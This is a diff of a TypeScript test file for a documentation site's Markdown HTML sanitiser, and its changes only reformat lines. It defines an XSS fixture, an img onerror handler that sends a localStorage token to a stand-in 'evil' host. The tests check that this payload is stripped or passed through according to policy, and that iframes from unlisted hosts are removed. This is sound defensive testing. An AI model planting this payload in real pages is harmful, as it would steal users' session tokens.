@@ -3,7 +3,8 @@ import { renderDoc } from '../../../cli/render/render-doc.ts';
 import { identity, reportedProblems } from '../../helpers/identity-resolvers.ts';
 
 const STEAL = `<img src="data:image/png,x" onerror="new Image().src='https://evil/?t='+localStorage.getItem('token')">`;
-const FIX = 'raw HTML may not run script. To keep raw HTML as written, set "markdown": { "rawHtml": "trusted" } in docs.config.json';
+const FIX =
+  'raw HTML may not run script. To keep raw HTML as written, set "markdown": { "rawHtml": "trusted" } in docs.config.json';
 
 describe('raw HTML in Markdown', () => {
   it('loses its event handlers, scripts and javascript: links, each reported where it is written', () => {
@@ -38,14 +39,25 @@ describe('raw HTML in Markdown', () => {
   });
 
   it('passes raw HTML through as written when the site trusts it', () => {
-    const { html } = renderDoc({ body: `${STEAL}\n`, bodyLineOffset: 0 }, { ...identity, htmlPolicy: { rawHtml: 'trusted', iframeHosts: [] } });
+    const { html } = renderDoc(
+      { body: `${STEAL}\n`, bodyLineOffset: 0 },
+      { ...identity, htmlPolicy: { rawHtml: 'trusted', iframeHosts: [] } },
+    );
     expect(html).toContain('onerror=');
   });
 
   it('keeps an iframe from a listed host, and removes one from any other', () => {
-    const body = '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>\n\n<iframe src="https://evil.example/x"></iframe>\n';
+    const body =
+      '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>\n\n<iframe src="https://evil.example/x"></iframe>\n';
     const found: string[] = [];
-    const { html } = renderDoc({ body, bodyLineOffset: 0 }, { ...identity, htmlPolicy: { rawHtml: 'sanitize', iframeHosts: ['www.youtube-nocookie.com'] }, report: (p) => found.push(`${p.line}:${p.column}`) });
+    const { html } = renderDoc(
+      { body, bodyLineOffset: 0 },
+      {
+        ...identity,
+        htmlPolicy: { rawHtml: 'sanitize', iframeHosts: ['www.youtube-nocookie.com'] },
+        report: (p) => found.push(`${p.line}:${p.column}`),
+      },
+    );
     expect(html).toContain('src="https://www.youtube-nocookie.com/embed/x"');
     expect(html).not.toContain('evil.example');
     expect(found).toEqual(['3:1']);
